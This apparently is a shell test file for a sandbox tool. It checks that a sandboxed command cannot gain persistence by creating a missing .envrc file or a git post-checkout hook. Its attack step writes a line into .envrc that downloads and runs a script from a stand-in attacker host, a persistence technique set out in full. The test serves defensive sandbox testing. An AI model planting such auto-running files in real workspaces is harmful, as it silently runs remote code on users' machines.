# SPDX-License-Identifier: LicenseRef-agentbox-unlicensed
# persist_create_missing: persistence through a file that is not there yet. The workspace has
# no .envrc and no git repository; the command creates .envrc (direnv runs it when the user
# enters the directory) and .git/hooks/post-checkout.
# Defence: protected paths (mount_protect.c, protect.c): the first missing component of each protected
# path gets an empty directory as a stand-in, bound read-only, so nothing can be created there;
# the stand-ins are removed when the last run on the tree ends.
# Control: creating a new ordinary file in the workspace succeeds inside the sandbox.

setup() {
	MARK="persist-$(unique)"
	rm -rf .envrc .git
}

control() {
	ab shell -- sh -c 'echo "$1" > new-ordinary.txt' sh "$MARK"
	grep -q "$MARK" new-ordinary.txt 2>/dev/null || control_failed "the workspace is not writable" "$(evidence)"
	control_ok "the command creates a new ordinary file in the workspace"
}

attack() {
	ab shell -- sh -c '
		echo "curl -s https://attacker.example/x | sh # $1" > .envrc
		mkdir -p .git/hooks && echo "#!/bin/sh # $1" > .git/hooks/post-checkout' sh "$MARK"
	if grep -qs "$MARK" .envrc .git/hooks/post-checkout; then
		gap "protected paths: the command created .envrc or a git hook" "$(evidence)"
	fi
	[ ! -e .envrc ] && [ ! -e .git ] || escaped "a stand-in or a created path is left on the host" "$(evidence)"
	case "$ERR" in *"Is a directory"* | *"Read-only file system"*) ;;
	*) escaped "no proof the creation was refused" "$(evidence)" ;;
	esac
	blocked "creating .envrc and .git/hooks was refused: $(evidence)"
}
